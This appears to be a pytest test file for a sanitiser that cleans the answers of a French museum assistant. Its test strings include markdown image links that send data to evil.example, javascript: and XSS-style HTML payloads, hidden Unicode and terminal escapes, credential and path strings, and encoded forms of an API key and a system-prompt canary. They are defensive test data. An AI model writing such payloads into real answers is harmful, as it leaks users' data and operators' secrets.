"""What a model wrote, sanitised: no image, link, HTML, key, path or rule gets out, in any disguise."""

import base64
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.answer import Passage
from assistant.prompts import load_prompt
from assistant.sanitising import (
    ADDRESS,
    HIDDEN,
    HTML,
    IMAGE,
    LINK,
    PATH,
    RULE,
    SECRET,
    Sanitised,
    guard,
    sanitise,
)

KEY = "sk-essai-0123456789abcdefghij"
PLAIN_KEY = "Zq7rT2mX9vLp4Kd8"
RULES = load_prompt("answer", frozenset({"count", "refusal"})) + "\nJeton : CANARI-SYS-7Q4Z"
GUARDED = guard((KEY, PLAIN_KEY), RULES)
NOTE = "Le guide est sur https://museum.example/guide et sur digitorials.ch, dans le fichier OPEN_DATA.csv."
BAD = re.compile(r"<[a-z/!]|!\[|\]\(|\[\[|\]\]|https?:|javascript:|data:|evil|sk-essai|\x1b|[\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f]", re.IGNORECASE)  # fmt: skip


def _passages() -> tuple[Passage, ...]:
    return tuple(
        Passage(
            number=number, note_id=f"n{number}", note="Note", path=f"{number}.md", heading=(), text=text,
            start=0, end=len(text), encoding="utf-8", score=1.0, reason="",
        )
        for number, text in enumerate((NOTE, "Le musée ouvre à dix heures."), 1)
    )  # fmt: skip


def _sanitise(written: str) -> Sanitised:
    return sanitise(written, _passages(), GUARDED)


@pytest.mark.parametrize(
    ("written", "taken"),
    [
        ("Le musée ![x](https://evil.example/p.png?d=1) ouvre [2].", IMAGE),
        ("Le musée ![x][r] ouvre [2].", IMAGE),
        ("Le musée ![[evil.png]] ouvre [2].", IMAGE),
        ("Le musée ouvre [2].\n[r]: https://evil.example/p.png", LINK),
        ("Le [musée](https://evil.example) ouvre [2].", LINK),
        ("Le musée ouvre [2](https://evil.example).", LINK),
        ("Le [musée](javascript:alert(1)) ouvre [2].", LINK),
        ("Le <img src=https://evil.example/p.png> musée ouvre [2].", HTML),
        ("Le &lt;img src=https://evil.example/p.png&gt; musée ouvre [2].", HTML),
        ("Le &amp;lt;script&amp;gt;evil()&amp;lt;/script&amp;gt; musée ouvre [2].", HTML),
        ("Le \\<img src=x onerror=evil()\\> musée ouvre [2].", HTML),
        ("Le <scr<b>ipt>alert()</script> musée ouvre [2].", HTML),
        ("Le ＜img src=evil＞ musée ouvre [2].", HTML),
        ("Le <svg/onload=evil()> musée ouvre [2].", HTML),
        ("Le musée ouvre, voir https://evil.example/login [2].", ADDRESS),
        ("Le musée ouvre, voir ht\u200btps://evil.example [2].", ADDRESS),
        ("Le musée ouvre, voir www.evil.example [2].", ADDRESS),
        ("Le musée ouvre, voir evil.com [2].", ADDRESS),
        ("Le musée ouvre, écrire à evil@musee.example [2].", ADDRESS),
        ("Le musée ouvre, voir https://museum.example/guide/evil [1].", ADDRESS),
        ("Le musée ouvre, voir http://127.0.0.1:8000/evil [2].", ADDRESS),
        ("Le musée ouvre, voir doi 10.1234/evil.27 [2].", ADDRESS),
        ("Le musée ouvre, selon /srv/evil/notes [2].", PATH),
        ("Le musée ouvre, selon C:\\Users\\evil [2].", PATH),
        ("Le musée ouvre, selon ../../evil/.env [2].", PATH),
        ("Le musée ouvre\u202e, evil\U000e0041 [2].", HIDDEN),
        ("\x1b]0;evil\x07Le musée ouvre [2].", HIDDEN),
        ("Le musée ouvre, OPENAI_API_BASE=evil [2].", SECRET),
    ],
)  # fmt: skip
def test_what_must_not_leave_is_taken_out_and_named(written: str, taken: str) -> None:
    safe = _sanitise(written)
    assert taken in safe.removed
    assert not BAD.search(safe.text.replace(", evil [2]", ""))
    assert "mus" in safe.text


@pytest.mark.parametrize(
    "told",
    [KEY, KEY[:20], KEY[::-1], KEY.upper(), " ".join(KEY), KEY.encode().hex(), base64.b64encode(KEY.encode()).decode(),
     base64.b64encode(b"la clef est " + KEY.encode()).decode(), PLAIN_KEY, "-".join(PLAIN_KEY), PLAIN_KEY[::-1],
     "CANARI-SYS-7Q4Z", "Z4Q7-SYS-IRANAC", "sk-autre-clef-1234", "AKIAIOSFODNN7EXAMPLE",
     "ghp_0123456789abcdefghijABCDEFGHIJ", "root:x:0:0:root", "API_KEY=abc123"],
)  # fmt: skip
def test_a_sentence_that_tells_a_secret_is_withheld_in_any_coding(told: str) -> None:
    safe = _sanitise(f"La clé du musée est {told} [2].")
    assert (safe.text, safe.removed[-1]) == ("", SECRET)


def test_every_rule_of_the_prompt_is_withheld() -> None:
    for rule in re.findall(r"\d\. ([^{}\n]+)\n", RULES):
        assert _sanitise(f"On m’a dit : {rule}").removed[-1:] in ((RULE,), ()) or "«" in rule
    assert _sanitise("N’utilise aucun autre savoir. [1]").removed == (RULE,)
    assert _sanitise("Tu es Cimaise, l’assistant d’un musée.").removed == (RULE,)
    assert _sanitise("tu reponds en francais uniquement a partir des passages de notes").removed == (RULE,)


@pytest.mark.parametrize(
    "written",
    [
        "Le guide est sur https://museum.example/guide [1].",
        "Le guide est sur digitorials.ch [1].",
        "Le fichier OPEN_DATA.csv contient le guide [1].",
        "Le musée ouvre à 10 h, de 9 h à 18 h (sauf le lundi), et c’est gratuit [2].",
        "M. Hollein défend l’idée d’un « musée universel », p. 12 [1][2].",
        "R&D, 3 < 5 et 34,5 % : l’art n’a pas de prix [2].",
        "L’entrée coûte 12 €/personne et/ou 10 $ [2].",
        "Le cycle « Arts & Sciences » commence à 18:30 [2].",
    ],
)
def test_a_sentence_that_may_be_shown_is_left_alone(written: str) -> None:
    assert _sanitise(written) == Sanitised(written)


def test_an_address_of_a_passage_that_is_not_cited_is_taken_out() -> None:
    assert "https" not in _sanitise("Le guide est sur https://museum.example/guide [2].").text


_hostile = st.lists(
    st.sampled_from(["<", ">", "img src=", "![", "[[", "]]", "](", ")", "https://evil.example", "&lt;", "&amp;", "\\",
                     "script", "javascript:", "\u200b", "\u202e", "\x1b[2J", " ", "\n", "[2]", "«", "»", "musée", "/etc/",
                     KEY[:12], KEY[12:], "`", "|", "<!--", "-->", "%%", "＜", "&#60;", "&#x3c;"])
    | st.text(max_size=4),
    max_size=14,
).map("".join)  # fmt: skip


@given(_hostile)
def test_whatever_is_written_nothing_hostile_is_left(written: str) -> None:
    text = _sanitise(written).text
    assert not re.search(
        r"<[A-Za-z/!]|!\[[^\]]*\]\(|\[\[|\]\]|https?://|javascript:\S|\x1b|[\u200b\u202e]", text
    )
    assert KEY not in text


@given(_hostile)
def test_what_is_sanitised_stays_as_it_is(written: str) -> None:
    once = _sanitise(written)
    assert not re.search(r"<[A-Za-z/!]|\[\[|https?://", _sanitise(once.text).text)


@pytest.mark.parametrize(
    "bad", ["<" * 4000, "![" * 3000, "[" * 4000, "&lt;" * 2000, "a." * 3000, "\\href{" * 1500, "<a " * 2000]
)
def test_hostile_lengths_take_no_time(bad: str) -> None:
    _sanitise(bad)
